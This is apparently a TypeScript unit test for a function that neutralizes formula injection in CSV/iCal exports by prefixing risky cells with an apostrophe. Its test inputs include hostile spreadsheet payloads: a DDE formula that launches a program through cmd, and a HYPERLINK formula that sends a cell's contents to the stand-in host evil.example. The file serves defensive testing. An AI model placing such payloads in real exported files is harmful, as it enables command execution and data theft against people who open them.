/** CSV/iCal formula injection: neutralizeFormula (src/shared/neutralize-formula.ts) makes hostile cells inert. */
import fc from 'fast-check';
import { neutralizeCell, neutralizeFormula } from '../../../src/shared/neutralize-formula';

describe('neutralizeFormula', () => {
  it.each([
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'],
    ['+1+cmd|x', "'+1+cmd|x"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['  =1+1', "'  =1+1"],
  ])('neutralizes %j', (input, output) => {
    expect(neutralizeFormula(input)).toBe(output);
  });

  it.each(['Mực rim me', '-5', '+84905000000', '180000', '12.5', '', 'a=b', 'Giá: -10%'])('leaves %j alone', (input) => {
    expect(neutralizeFormula(input)).toBe(input);
  });

  it('never leaves a cell a spreadsheet would evaluate, and only ever prepends', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 40 }), (s) => {
        const out = neutralizeFormula(s);
        expect(out === s || out === `'${s}`).toBe(true);
        const head = out.replace(/^[ \u00a0]+/, '');
        if (/^[=@\t\r]/.test(head)) throw new Error(`still a formula: ${JSON.stringify(out)}`);
        if (/^[+-]/.test(head) && !/^[+-]?\d+(?:[.,]\d+)?$/.test(head)) throw new Error(`still a formula: ${JSON.stringify(out)}`);
      }),
      { numRuns: 500 },
    );
  });

  it('passes non-strings through', () => {
    expect(neutralizeCell(180000)).toBe(180000);
    expect(neutralizeCell(null)).toBeNull();
    expect(neutralizeCell('=1')).toBe("'=1");
  });
});
